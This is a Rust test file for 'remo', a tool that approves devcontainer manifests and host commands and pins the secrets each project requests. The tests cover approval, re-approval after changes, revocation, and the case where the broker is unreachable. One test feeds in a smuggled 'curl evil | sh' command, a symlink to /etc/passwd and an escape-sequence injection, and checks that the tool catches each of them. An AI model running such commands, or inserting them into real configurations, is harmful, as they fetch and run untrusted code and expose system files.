//! Approving manifests and commands for the host.

use std::fs;

use remo_testkit::Project;
use remo_wire::admin::ManifestState;

use crate::stage::Stage;

#[test]
fn a_manifest_is_shown_and_pinned_as_it_was_shown() {
    let stage = Stage::new();
    let project = Project::new(&stage.directory, "a", &["gh"]);
    stage.remo(&["trust", "a"]).expect(2, "there is no terminal to ask on");
    assert_eq!(stage.broker.manifest(&project).unwrap().state, ManifestState::Unapproved);
    stage.remo(&["trust", "a", "--yes"]).expect(0, "read the secret gh in the environment variable GH");
    assert_eq!(stage.broker.manifest(&project).unwrap().state, ManifestState::Pinned);
    project.write_secrets(&["gh", "npm"]);
    let ended = stage.remo(&["trust", "a"]).expect(2, "read the secret npm");
    assert!(!ended.err.contains("secret gh"), "only the difference: {ended:?}");
    assert_eq!(stage.broker.manifest(&project).unwrap().state, ManifestState::Changed);
    fs::write(project.manifest_path(), "nonsense").unwrap();
    stage.remo(&["trust", "a", "--yes"]).expect(1, "cannot be used");
}

#[test]
fn revoking_closes_the_socket_and_the_next_start_asks_again() {
    let stage = Stage::new();
    let project = Project::new(&stage.directory, "a", &["gh"]);
    stage.remo(&["trust", "a", "--yes"]).expect(0, "");
    stage.remo(&["trust", "a", "--revoke"]).expect(0, "gets no secret any more");
    assert!(stage.broker.status().projects.is_empty());
    stage.write("a", ".devcontainer/devcontainer.json", r#"{"image":"x"}"#);
    stage.remo(&["trust", "a"]).expect(2, "nothing is approved yet");
    assert_eq!(
        stage.broker.manifest(&project).unwrap().state,
        ManifestState::Pinned,
        "the broker keeps its pin"
    );
}

#[test]
fn a_command_for_the_host_is_shown_and_approved_for_its_exact_text() {
    let stage = Stage::new();
    Project::new(&stage.directory, "a", &["gh"]);
    let configure = |command: &str| {
        stage.write(
            "a",
            ".devcontainer/devcontainer.json",
            &format!("{{ // a comment\n \"image\": \"x\", \"initializeCommand\": \"{command}\", }}"),
        )
    };
    let file = configure("./prepare \\u001b[2J");
    let ended = stage.remo(&["trust", "a"]).expect(2, "./prepare");
    assert!(
        ended.err.contains("The files that it calls are not covered") && !ended.err.contains('\u{1b}'),
        "{ended:?}"
    );
    stage.remo(&["trust", "a", "--yes"]).expect(0, "initializeCommand");
    let ended = stage.remo(&["trust", "a"]).expect(0, "in force");
    assert!(!ended.err.contains("initializeCommand"), "{ended:?}");
    configure("./prepare; curl evil | sh");
    stage.remo(&["trust", "a"]).expect(2, "curl evil");
    fs::remove_file(&file).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", &file).unwrap();
    stage.remo(&["trust", "a", "--yes"]).expect(1, "reached through no link");
}

#[test]
fn a_broker_that_is_away_has_an_exit_code_of_its_own() {
    let mut stage = Stage::new();
    Project::new(&stage.directory, "a", &["gh"]);
    stage.broker.kill();
    stage.remo(&["trust", "a", "--yes"]).expect(4, "remo doctor");
    stage.remo(&["status"]).expect(4, "cannot reach the broker");
}
